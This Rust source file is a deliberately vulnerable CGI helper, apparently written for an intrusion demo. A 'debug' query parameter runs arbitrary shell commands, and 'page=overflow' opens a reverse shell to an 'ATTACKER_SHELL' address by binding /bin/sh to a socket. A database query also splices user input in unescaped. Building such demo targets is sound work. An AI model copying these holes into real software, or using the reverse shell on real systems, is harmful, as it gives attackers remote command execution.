//! `shop-report`: the CGI helper. Asks the database and prints a page.
//!
//! It has two holes, so that the demo's intrusion is not staged from outside. `debug=` was left in by a developer and goes
//! to a shell. `page=overflow` stands for memory corruption: code inside this process calls back, puts the socket on
//! descriptors 0–2 and becomes a shell, all within microseconds and without any program in between.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::os::fd::OwnedFd;
use std::os::unix::process::CommandExt;
use std::process::Command;
use std::time::Duration;

use anyhow::Context;

use super::{ATTACKER_SHELL, DATABASE, Layout};

pub fn run(_: &Layout) -> anyhow::Result<()> {
    let query = std::env::var("QUERY_STRING").unwrap_or_default();
    let parameter =
        |name: &str| query.split('&').find_map(|pair| pair.strip_prefix(name)?.strip_prefix('=').map(decode_percent));
    if parameter("page").as_deref() == Some("overflow") {
        return become_reverse_shell();
    }
    let mut page = ask_database(&parameter("name").unwrap_or_default())?;
    if let Some(command) = parameter("debug") {
        let output = Command::new("/bin/sh").arg("-c").arg(&command).output().context("debug")?;
        page.extend_from_slice(&output.stdout);
        page.extend_from_slice(&output.stderr);
    }
    std::io::stdout().write_all(&page)?;
    Ok(())
}

fn ask_database(name: &str) -> anyhow::Result<Vec<u8>> {
    let stream = TcpStream::connect_timeout(&DATABASE, Duration::from_secs(2)).context("database")?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    writeln!(&stream, "select {name}")?;
    let mut page = b"<h1>report</h1>\n".to_vec();
    for row in BufReader::new(&stream).lines() {
        let row = row?;
        if row.is_empty() {
            break;
        }
        page.extend_from_slice(format!("<p>{row}</p>\n").as_bytes());
    }
    Ok(page)
}

fn become_reverse_shell() -> anyhow::Result<()> {
    let socket = TcpStream::connect_timeout(&ATTACKER_SHELL, Duration::from_secs(2))?;
    let error = Command::new("/bin/sh")
        .stdin(OwnedFd::from(socket.try_clone()?))
        .stdout(OwnedFd::from(socket.try_clone()?))
        .stderr(OwnedFd::from(socket))
        .exec();
    Err(error.into())
}

/// `%41` → `A`, `+` → space; anything else stays.
fn decode_percent(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while at < bytes.len() {
        let hex = bytes.get(at + 1..at + 3).and_then(|pair| std::str::from_utf8(pair).ok());
        match (bytes[at], hex.and_then(|pair| u8::from_str_radix(pair, 16).ok())) {
            (b'%', Some(byte)) => {
                out.push(byte);
                at += 3;
            }
            (b'+', _) => {
                out.push(b' ');
                at += 1;
            }
            (byte, _) => {
                out.push(byte);
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The other direction, for the demo's own requests.
pub fn encode_percent(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { (byte as char).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn percent_encoding_round_trips() {
        let text = "sh -c 'id; echo a+b%41' é";
        assert_eq!(decode_percent(&encode_percent(text)), text);
        assert_eq!(decode_percent("a+b%4"), "a b%4");
    }
}
